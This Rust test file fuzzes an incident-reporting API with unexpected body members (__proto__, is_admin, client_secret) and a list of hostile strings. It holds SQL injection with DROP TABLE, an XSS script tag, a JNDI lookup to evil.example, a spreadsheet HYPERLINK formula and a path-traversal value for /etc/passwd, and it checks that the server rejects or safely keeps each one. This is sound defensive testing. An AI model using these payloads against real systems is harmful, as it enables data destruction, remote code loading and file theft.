//! Every member and every parameter that the document names, filled with what hurts: members that only answers have, texts
//! that mean something to SQL, to a search, to a terminal or to nobody.

use zvit_tests::directory::{ALPHA, DELTA, DONOR, WATER};
use zvit_tests::walk::{Operation, Walk};
use zvit_tests::{Answer, Client, Server, Value, both, fresh, json, report};

/// True ids for whatever an operation is about; things that may be broken.
struct Targets {
    incident: String,
    case: String,
    client: String,
}

impl Targets {
    fn at(server: &Server) -> Self {
        let incident = server.hospital().submit(report("Подія"));
        let body = json!({"role": "team", "owner": DELTA, "name": "На заміну"});
        let client = server.coordinator().post("/v1/clients").fresh_key().json(body).expect(201);
        Self {
            incident: incident.string("/id"),
            case: incident.string("/assignments/0/id"),
            client: client.string("/client_id"),
        }
    }

    /// The id that the path asks for; one of nothing where this table doesn't know the kind.
    fn id(&self, path: &str) -> &str {
        match path.split('/').nth(2).unwrap_or_default() {
            "incidents" => &self.incident,
            "cases" | "assignments" => &self.case,
            "institutions" => WATER,
            "teams" if path.ends_with("/availability") => ALPHA,
            "teams" => DELTA,
            "participants" => DONOR,
            "clients" => &self.client,
            _ => "01920000-0000-7abc-8def-0000000000ff",
        }
    }
}

/// Whoever may call it: the first role whose token opens it.
fn caller(server: &Server, operation: &Operation) -> Client {
    let scopes = operation.described["security"].to_string();
    let alone = |scope: &str| scopes.contains(scope);
    if alone("cases:write") || (alone("cases:read") && !alone("incidents:read")) {
        server.alpha()
    } else if alone("incidents:write") || alone("incidents:read") {
        server.hospital()
    } else {
        server.coordinator()
    }
}

/// The tag of what is about to be changed.
fn tag(client: &Client, path: &str) -> String {
    let shorter = path.rsplit_once('/').map_or(path, |(head, _)| head);
    let found = [path, shorter].iter().find_map(|path| {
        let answer = client.get(path).send();
        (answer.status == 200).then(|| answer.find_header("etag").map(str::to_owned)).flatten()
    });
    found.unwrap_or_else(|| "\"1\"".to_owned())
}

/// A body that the operation takes but for what is done to it. Required alternatives need a hand here and there.
fn body(walk: &Walk, operation: &Operation) -> Option<Value> {
    let mut body = walk.body(operation)?;
    match operation.path.as_str() {
        "/v1/institutions" | "/v1/institutions/{id}" => {
            body["edrpou"] = json!("99880087");
            body["represents"] = json!([]);
            body["contacts"] = json!([{"name": "Черговий", "phone": "+380 00 000 00 00", "email": "duty@x.example", "role": "черговий"}]);
        }
        "/v1/clients" => body = json!({"name": "Новий", "role": "auditor"}),
        "/v1/incidents/batch" => body["items"].as_array_mut().expect("items").truncate(1),
        "/v1/cases/{id}/hand-over" => drop(body.as_object_mut().and_then(|members| members.remove("to_team"))),
        _ => {}
    }
    Some(body)
}

fn with_bodies(walk: &Walk) -> Vec<(Operation, Value)> {
    let operations = walk.operations().into_iter().filter(Operation::needs_token);
    operations.filter_map(|operation| body(walk, &operation).map(|body| (operation, body))).collect()
}

fn send(client: &Client, operation: &Operation, path: &str, body: &str) -> Answer {
    let call = client.call(&operation.method, path).fresh_key().body("application/json", body);
    let call = if operation.method == "PUT" { call.if_match(&tag(client, path)) } else { call };
    call.send()
}

/// Status and places of a refusal; of the only item of a batch, which is refused by itself.
fn refusal(answer: &Answer) -> (u16, Vec<String>) {
    let Some(problem) = answer.value.pointer("/items/0/problem") else { return (answer.status, answer.places()) };
    let places = problem["errors"].as_array().into_iter().flatten().filter_map(|error| error["pointer"].as_str());
    let status = problem["status"].as_u64().and_then(|status| u16::try_from(status).ok()).unwrap_or_default();
    (status, places.map(str::to_owned).collect())
}

/// What answers say of a thing, and what objects of some languages say of themselves.
const NOT_ASKED_FOR: &[&str] = &[
    "__proto__",
    "constructor",
    "prototype",
    "$ref",
    "$where",
    "@type",
    "id",
    "_id",
    "ID",
    "status",
    "state",
    "version",
    "owner",
    "owner_id",
    "institution",
    "institution_id",
    "tlp_ceiling",
    "credential_version",
    "client_secret",
    "secret_sha256",
    "active",
    "on_hold",
    "level",
    "triage",
    "score",
    "created_at",
    "updated_at",
    "received_at",
    "report_sha256",
    "reference",
    "assignments",
    "deadlines",
    "position",
    "provisional",
    "is_admin",
    "role",
    "scopes",
    "override",
    "client_id",
    "kid",
    "spare",
    "coordinator",
    "why",
    "warnings",
    "rate_per_second",
    "rate_burst",
    "capacity",
    "actor",
    "audience",
];

both!(no_member_but_those_of_the_document_is_written_anywhere, |server| {
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let mut walked = 0;
    server.store.untouched(|| {
        for (operation, body) in with_bodies(&walk) {
            let (client, path) = (caller(server, &operation), operation.at(targets.id(&operation.path)));
            let schema = walk.body_schema(&operation).expect("a schema");
            for (place, schema) in walk.places(&schema, &body) {
                let mut bent = body.clone();
                let Some(members) = bent.pointer_mut(&place).and_then(Value::as_object_mut) else { continue };
                let mut added = Vec::new();
                for name in NOT_ASKED_FOR {
                    if schema["properties"].get(name).is_none() {
                        members.insert((*name).to_owned(), json!("01920000-0000-7002-8000-000000000001"));
                        added.push(format!("{place}/{name}"));
                    }
                }
                let answer = send(&client, &operation, &path, &bent.to_string());
                let (status, named) = refusal(&answer);
                assert_eq!(status, 422, "{} {path} {place}\n{answer}", operation.method);
                // Of one of several forms the whole may be what doesn't fit.
                let is_named = |at: &String| named.contains(at) || named.contains(&place) && !place.is_empty();
                let missed: Vec<_> = added.iter().filter(|at| !is_named(at)).collect();
                assert!(missed.is_empty(), "{} {path}: {missed:?} not refused\n{answer}", operation.method);
                walked += added.len();
            }
        }
    });
    assert!(walked > 1_000, "{walked}");
});

both!(a_lenient_reading_writes_no_more_than_a_strict_one, |server| {
    let mut body = json!({"description": "Подія", "title": "Подія"});
    let plain = server.hospital().post("/v1/incidents").fresh_key().lenient().json(body.clone()).expect(201);
    for name in NOT_ASKED_FOR {
        body[*name] = json!("01920000-0000-7002-8000-000000000002");
    }
    let bent = server.hospital().post("/v1/incidents").fresh_key().lenient().json(body).expect(201);
    for member in [
        "/status",
        "/level",
        "/institution",
        "/triage",
        "/deadlines/0/state",
        "/classification",
        "/tlp",
        "/sector",
        "/exercise",
    ] {
        assert_eq!(bent.value.pointer(member), plain.value.pointer(member), "{member}\n{bent}");
    }
    assert_eq!(bent.list("/warnings").len(), NOT_ASKED_FOR.len(), "{bent}");
    assert_eq!(bent.etag(), "\"1\"");
});

/// One of each trade; a test that fails says which.
const HOSTILE: &[(&str, &str)] = &[
    (
        "sql",
        "x'); DROP TABLE incidents; -- \" ' OR 1=1 /* */ $1 ?1 :a @b \\' \\\\ % _ E'\\x41' U&'\\0041' || pg_sleep(9)",
    ),
    (
        "markup",
        "<script>alert(1)</script>&amp;<!--{{7*7}}${jndi:ldap://evil.example/a}#{1}=HYPERLINK(\"//evil.example\")",
    ),
    ("direction", "x\u{202e}gpj.exe\u{2066}\u{2069}\u{200f}\u{61c}"),
    ("invisible", "a\u{200b}b\u{200c}\u{200d}\u{2060}\u{feff}c\u{ad}\u{34f}\u{e0041}"),
    ("planes", "🚑\u{10ffff}\u{1f468}\u{200d}\u{1f469}\u{fe0f}\u{fffe}\u{ffff}\u{fdd0}\u{fffd}"),
    ("marks", "e\u{301}\u{301}\u{301}é Ǆ ſ İ ß ﬁ і\u{308}ї"),
    ("controls", "a\tb\r\nX: y\u{1b}[31m\u{7}\u{8}\u{7f}\u{85}\u{2028}\u{2029}c"),
    ("empty", ""),
    ("blanks", " \u{a0}\u{3000} "),
];

both!(no_text_in_any_member_breaks_anything, |server| {
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let mut walked = 0;
    for (operation, body) in with_bodies(&walk) {
        let (client, path) = (caller(server, &operation), operation.at(targets.id(&operation.path)));
        let schema = walk.body_schema(&operation).expect("a schema");
        for (place, schema) in walk.places(&schema, &body) {
            if !body.pointer(&place).is_some_and(Value::is_string) {
                continue;
            }
            let most = schema["maxLength"].as_u64().unwrap_or(200);
            let longest = "🚑".repeat(usize::try_from(most).expect("a length").min(20_000));
            for (trade, text) in HOSTILE.iter().copied().chain([("longest", longest.as_str())]) {
                let mut bent = body.clone();
                *bent.pointer_mut(&place).expect("a place") = json!(text);
                let answer = send(&client, &operation, &path, &bent.to_string());
                assert!(answer.status < 500, "{} {path} {place} {trade}\n{answer}", operation.method);
                // A verb that is in effect already keeps what was said with it at first.
                if (200..300).contains(&answer.status) && !path.starts_with("/v1/cases/") {
                    let kept = answer.value.pointer(&place).and_then(Value::as_str);
                    let trimmed = text.trim();
                    assert!(
                        kept.is_none_or(|kept| kept == text || kept == trimmed),
                        "{} {path} {place} {trade}: {kept:?}",
                        operation.method
                    );
                }
                walked += 1;
            }
            // What no database and no text takes.
            for escape in ["\\u0000", "a\\u0000b", "\\ud800", "\\udfff\\ud800", "\\ud83d"] {
                let mut bent = body.clone();
                *bent.pointer_mut(&place).expect("a place") = json!("@@");
                let text = bent.to_string().replace("\"@@\"", &format!("\"{escape}\""));
                let answer = send(&client, &operation, &path, &text);
                assert!(
                    [400, 422].contains(&refusal(&answer).0),
                    "{} {path} {place} {escape}\n{answer}",
                    operation.method
                );
            }
        }
    }
    assert!(walked > 300, "{walked}");
    assert!(server.store.count("incidents") > 1, "the tables are all there");
    server.coordinator().get("/v1/audit-events?limit=200").expect(200);
    server.hospital().submit(report("Усе ще приймає"));
});

both!(what_a_report_says_is_kept_to_the_letter, |server| {
    for (trade, text) in HOSTILE {
        if text.trim().is_empty() {
            continue;
        }
        let contact = json!({"name": text});
        let sent = report(text).with("title", *text).with("measures_taken", *text).with("contact", contact);
        let answer = server.hospital().post("/v1/incidents").key(&fresh()).json(sent).send();
        if answer.status == 422 {
            // A line holds no line breaks or the like; that is said, not silently mended.
            assert!(text.contains(char::is_control), "{trade}\n{answer}");
            continue;
        }
        let id = answer.expect(201).string("/id");
        let path = format!("/v1/incidents/{id}");
        let read = server.hospital().get(&path).expect(200);
        assert_eq!(read.str("/description"), *text, "{trade}");
        assert_eq!(read.str("/measures_taken"), *text, "{trade}");
        assert_eq!(read.str("/title"), text.trim(), "{trade}");
        assert_eq!(read.str("/contact/name"), text.trim(), "{trade}");
        server.coordinator().get("/v1/incidents/feed").expect(200);
    }
});

both!(no_query_breaks_anything, |server| {
    let walk = Walk::of(&server.anyone());
    let targets = Targets::at(server);
    let encode = |text: &str| text.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
    let mut values: Vec<String> = HOSTILE.iter().map(|(_, text)| encode(text)).collect();
    values.extend(
        [
            "%00",
            "%FF",
            "%C0%AF",
            "%ED%A0%80",
            "%",
            "%zz",
            "%2",
            "+",
            "-1",
            "0",
            "-0",
            "1e3",
            "01",
            "+1",
            "0x10",
            "201",
            "4294967297",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999999",
            "NaN",
            "null",
            "true",
            "%5B%5D",
            "%7B%7D",
            "%5Bobject%20Object%5D",
            "2026-11-23T00:00:00",
            "9999-12-31T23:59:59Z",
            "-9999-01-01T00:00:00Z",
            "0000-00-00",
            "2026-11-23T00:00:00%2B25:00",
            "AAAA",
            "AQAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "..%2F..%2Fetc%2Fpasswd",
            "a,b",
            "a;b",
            "a%26b",
        ]
        .map(str::to_owned),
    );
    values.push("a".repeat(6_000));
    values.push("%D0%B0".repeat(1_000));
    server.store.untouched(|| {
        for operation in walk.operations().iter().filter(|one| one.needs_token() && one.method == "GET") {
            let (client, path) = (caller(server, operation), operation.at(targets.id(&operation.path)));
            for (name, _) in operation.query() {
                for value in values.iter().filter(|value| name != "wait" || value.len() > 2) {
                    for query in [
                        format!("{name}={value}"),
                        format!("{name}={value}&{name}={value}"),
                        format!("{name}%5B%5D={value}"),
                    ] {
                        let answer = client.get(&format!("{path}?{query}")).send();
                        assert!(
                            [200, 400, 404, 410, 414, 422].contains(&answer.status),
                            "{path}?{query:.300}\n{answer}"
                        );
                    }
                }
            }
            let many = (0..500).map(|n| format!("x{n}=1")).collect::<Vec<_>>().join("&");
            for query in
                ["?", "&", "=", "&&=&", "limit", "limit=", "=1", "a=b=c", "%00=1", "__proto__=1", many.as_str()]
            {
                let answer = client.get(&format!("{path}?{query}")).send();
                assert!(answer.status < 500, "{path}?{query:.300}\n{answer}");
            }
        }
    });
});
